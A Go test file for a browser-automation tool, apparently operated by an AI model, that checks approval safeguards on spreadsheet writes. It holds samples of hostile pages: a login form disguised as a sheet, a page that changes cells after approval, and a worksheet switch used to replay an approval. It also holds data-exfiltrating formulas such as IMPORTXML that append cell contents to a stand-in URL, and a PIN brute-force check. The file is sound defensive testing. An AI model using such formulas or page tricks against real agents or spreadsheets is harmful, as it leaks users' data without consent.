package driver_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/waymark-dev/waymark/calls"
	"github.com/waymark-dev/waymark/internal/apptest"
)

// TestSheetWriteFakeSheetLoginForm: a page that dresses a login form as
// Jspreadsheet (the marker is a class any page can have) must not get a
// form submitted by sheet write's Enter, which needs no approval: the
// write refuses a cell whose editor is a field of a form, and nothing is
// posted.
func TestSheetWriteFakeSheetLoginForm(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var posts []string
	page := `<!doctype html><title>Sign in</title>
<div class="jss_worksheet"><form method="post" action="/login"><table>
<tr><td data-x="0" data-y="0" style="width:200px;height:30px;padding:0"><input name="user" style="width:100%;height:100%;box-sizing:border-box"></td></tr>
</table></form></div>`
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			b, _ := io.ReadAll(r.Body)
			mu.Lock()
			posts = append(posts, r.URL.Path+"?"+string(b))
			mu.Unlock()
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
	}))
	t.Cleanup(srv.Close)
	s, ctx := newSession(t)
	open(t, s, ctx, srv.URL+"/")
	_, err := s.SheetWrite(ctx, calls.SheetWriteRequest{Cell: "A1", Value: "alice"})
	mu.Lock()
	defer mu.Unlock()
	if len(posts) > 0 {
		t.Fatalf("sheet write submitted the page's form without approval: %q (err %v)", posts, err)
	}
	if calls.Code(err) != "not_interactable" || !strings.Contains(err.Error(), "a form submission (POST") {
		t.Fatalf("sheet write into a form's field: %v", err)
	}
}

// TestSheetFillChangedDuringFill: the page changes a cell the fill has
// not reached yet while it writes an earlier one. What was approved was
// what the cells held; a cell that holds something else by the time it is
// written is not overwritten (changed), whatever was read at the start.
func TestSheetFillChangedDuringFill(t *testing.T) {
	t.Parallel()
	s, ctx := newSession(t)
	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"", ""}},
		Script: `const iv = setInterval(() => {
  if (window.sheet && window.sheet.getValueFromCoords(0, 0) === "one") {
    clearInterval(iv); window.sheet.setValueFromCoords(1, 0, "the page's own");
  }
}, 5);`})
	req := calls.SheetFillRequest{Cells: map[string]string{"A1": "one", "B1": "two"}}
	_, err := s.SheetFill(ctx, req)
	var a calls.Approval
	if err := json.Unmarshal(calls.DataOf(err), &a); err != nil {
		t.Fatalf("unapproved fill: %v", err)
	}
	req.Approve = &a
	_, err = s.SheetFill(ctx, req)
	if b := appValue(t, s, ctx, 1, 0); b != "the page's own" {
		t.Fatalf("B1 holds %q: the fill overwrote a cell that changed after it was approved (err %v)", b, err)
	}
	if calls.Code(err) != "changed" || !strings.Contains(err.Error(), "B1") {
		t.Fatalf("fill over a changed cell: %v", err)
	}
}

// TestSheetWriteFetchingFormula: a formula that makes the app fetch a URL
// (Google Sheets' IMPORTXML sends any cell's data to any URL) is a send,
// and one cell's write has no approval: it is refused before the page is
// touched, and sheet fill, which asks, is named. A formula that only
// computes is written as before.
func TestSheetWriteFetchingFormula(t *testing.T) {
	t.Parallel()
	s, ctx := newSession(t)
	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"secret plan", ""}, {"2", "3"}}})
	for _, v := range []string{
		`=IMPORTXML("http://127.0.0.1:1/x?d="&A1, "//a")`,
		`=importdata ("http://127.0.0.1:1/" & A1)`,
		`+IMAGE("http://127.0.0.1:1/p.png?"&A1)`,
		` =1+WEBSERVICE("http://127.0.0.1:1/"&A1)`,
	} {
		_, err := s.SheetWrite(ctx, calls.SheetWriteRequest{Cell: "B1", Value: v})
		if calls.Code(err) != "needs_approval" || !strings.Contains(calls.Hint(err), "sheet fill") {
			t.Errorf("write %s: %v", v, err)
		}
		if got := appValue(t, s, ctx, 1, 0); got != "" {
			t.Fatalf("B1 holds %q after an unapproved fetching formula", got)
		}
	}
	res, err := s.SheetWrite(ctx, calls.SheetWriteRequest{Cell: "B1", Value: "=A2*B2"})
	if err != nil || res.After != "6" {
		t.Fatalf("a formula that computes: %+v %v", res, err)
	}
	if got := appValue(t, s, ctx, 1, 0); got != "=A2*B2" {
		t.Fatalf("B1 holds %q", got)
	}
}

// TestSheetFillOtherWorksheet: a spreadsheet of two worksheets (tabs).
// The cells are the open worksheet's (a hidden one's cells match the
// app's cell selector too), and an approval given for cells of one
// worksheet, replayed after the page (or anyone) switched to another
// whose cells hold the same empty values — same URL, same page load,
// same cells and values — asks again: the approval names the worksheet.
func TestSheetFillOtherWorksheet(t *testing.T) {
	t.Parallel()
	s, ctx := newSession(t)
	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"", ""}},
		Script: `const iv = setInterval(() => {
  if (!window.sheet) return;
  clearInterval(iv);
  window.sheet.createWorksheet({worksheetName: "Payroll", minDimensions: [2, 2]});
  window.sheet.openWorksheet(0);
}, 5);`})
	if _, err := s.Wait(ctx, calls.WaitRequest{Text: "Payroll"}); err != nil {
		t.Fatal(err)
	}
	req := calls.SheetFillRequest{Cells: map[string]string{"A1": "one", "B1": "two"}}
	_, err := s.SheetFill(ctx, req)
	var a calls.Approval
	if jerr := json.Unmarshal(calls.DataOf(err), &a); jerr != nil {
		t.Fatalf("unapproved fill: %v", err)
	}
	if !strings.Contains(a.Why, `"Sheet1"`) {
		t.Errorf("the approval does not name the worksheet: %+v", a)
	}
	if _, err := s.Eval(ctx, calls.EvalRequest{Expression: `window.sheet.openWorksheet(1)`, MainWorld: true}); err != nil {
		t.Fatal(err)
	}
	req.Approve = &a
	_, err = s.SheetFill(ctx, req)
	res, _ := s.Eval(ctx, calls.EvalRequest{Expression: `(() => { const w = document.getElementById('sheet').spreadsheet.worksheets; return w[0].getValueFromCoords(0, 0) + "|" + w[1].getValueFromCoords(0, 0); })()`, MainWorld: true})
	if calls.Code(err) != "needs_approval" || string(res.Value) != `"|"` {
		t.Fatalf("an approval for Sheet1 replayed on Payroll: %v (A1 of Sheet1|Payroll: %s)", err, res.Value)
	}
	// Approved on the worksheet that is open, it writes there.
	req.Approve = nil
	_, err = s.SheetFill(ctx, req)
	if jerr := json.Unmarshal(calls.DataOf(err), &a); jerr != nil {
		t.Fatalf("unapproved fill: %v", err)
	}
	req.Approve = &a
	if _, err := s.SheetFill(ctx, req); err != nil {
		t.Fatal(err)
	}
	res, _ = s.Eval(ctx, calls.EvalRequest{Expression: `(() => { const w = document.getElementById('sheet').spreadsheet.worksheets; return w[0].getValueFromCoords(0, 0) + "|" + w[1].getValueFromCoords(0, 0); })()`, MainWorld: true})
	if string(res.Value) != `"|one"` {
		t.Fatalf("A1 of Sheet1|Payroll: %s", res.Value)
	}
}

// TestSheetFillDigestHidesSecret: the approval binds the values by a
// digest, and the approval is shown (to the model when the client cannot
// ask its person, in --json). A PIN among the values must not be found
// from it by trying every PIN: the digest is keyed by the session.
func TestSheetFillDigestHidesSecret(t *testing.T) {
	t.Parallel()
	s, ctx := newSession(t)
	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"user", "pin"}, {"", ""}}})
	const pin = "4821"
	_, err := s.SheetFill(ctx, calls.SheetFillRequest{Cells: map[string]string{"A2": "bob"}, Secrets: map[string]string{"B2": pin}})
	var a calls.Approval
	if jerr := json.Unmarshal(calls.DataOf(err), &a); jerr != nil {
		t.Fatalf("unapproved fill: %v", err)
	}
	for i := range 10000 {
		guess := fmt.Sprintf("%04d", i)
		h := sha256.New()
		fmt.Fprintf(h, "A2\x00bob\x00B2\x00%s\x00", guess)
		if "cells "+hex.EncodeToString(h.Sum(nil))[:16] == a.Sends {
			t.Fatalf("the approval's digest %q gives the secret PIN away: %s", a.Sends, guess)
		}
	}
}

// TestSheetFillSecretFormula: a secret is approved masked ("••••"), so a
// secret that is a fetching formula would send unseen: refused.
func TestSheetFillSecretFormula(t *testing.T) {
	t.Parallel()
	s, ctx := newSession(t)
	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"a", ""}}})
	_, err := s.SheetFill(ctx, calls.SheetFillRequest{Secrets: map[string]string{"B1": `=IMPORTDATA("http://127.0.0.1:1/"&A1)`}})
	if calls.Code(err) != "bad_input" {
		t.Fatalf("a fetching formula as a secret: %v", err)
	}
}
